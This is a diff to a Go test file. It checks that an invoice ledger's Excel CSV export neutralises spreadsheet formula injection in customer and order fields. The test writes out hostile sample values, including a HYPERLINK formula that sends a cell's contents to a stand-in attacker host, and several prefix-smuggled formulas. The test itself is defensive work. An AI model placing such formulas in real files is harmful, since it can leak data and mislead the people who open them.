@@ -140,6 +140,48 @@ func TestFormulasAreDefused(t *testing.T) {
 	}
 }
 
+// TestT14AFormulaInADocumentIsNoneInTheDownload names customers and orders like
+// formulas, and reads the file as a spreadsheet does.
+func TestT14AFormulaInADocumentIsNoneInTheDownload(t *testing.T) {
+	r := newRig(t)
+	v := r.firstRun()
+	const formula = `=HYPERLINK("https://evil.example?"&A1,"pay here")`
+	var page []ledger.Transaction
+	for i, text := range []string{formula, "+45 12 34 56 78", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1", "＝1+1", "a;=1\n=2"} {
+		key := ledger.Key{Subscription: "nordlys", Activation: "books", Ref: text, Version: "1"}
+		page = append(page, ledger.Transaction{Key: key, ID: key.ID(), State: ledger.Stopped, Code: "DOC-DUE", Trigger: ledger.Manual, Cause: text,
+			Head: ledger.Head{Number: fmt.Sprint(text, i), Kind: "creditnote", Sender: text, Receiver: text, PurchaseOrder: text, SalesOrder: text, Currency: "DKK",
+				IssueDate: invoice.Date{Year: 2026, Month: 3, Day: 1}, TotalWithVAT: invoice.NewDecimal(10050, 2)}})
+	}
+	_, err := r.store.Ledger.Enter(t.Context(), "nordlys", ledger.Page{Activation: "books", KeepCursor: true, Transactions: page})
+	r.must(err)
+	read := csv.NewReader(strings.NewReader(strings.TrimPrefix(v.get(at+"/documents/csv?csv=excel&group=all").text, "\uFEFF")))
+	read.Comma = ';'
+	table, err := read.ReadAll()
+	r.must(err)
+	if len(table) != 9 {
+		t.Fatalf("there are %d rows", len(table))
+	}
+	seen := 0
+	for _, row := range table[1:] {
+		for i, cell := range row {
+			first := strings.TrimLeft(cell, " \t\r\n")
+			if i == 8 && cell == "-100.50" { // an amount is a number
+				continue
+			}
+			if strings.ContainsAny(first[:min(1, len(first))], "=+-@") || strings.HasPrefix(first, "＝") {
+				t.Errorf("column %d is the formula %q", i, cell)
+			}
+			if strings.HasPrefix(cell, "'") {
+				seen++
+			}
+		}
+	}
+	if seen < 30 {
+		t.Errorf("only %d cells were defused", seen)
+	}
+}
+
 func TestRangesOfNumbers(t *testing.T) {
 	for text, want := range map[string]string{
 		"10400-10402, 10433": "10400 10401 10402 10433", "7": "7", "0098-0101": "0098 0099 0100 0101", "A-17 B": "A-17 B", "2026-0001": "!",
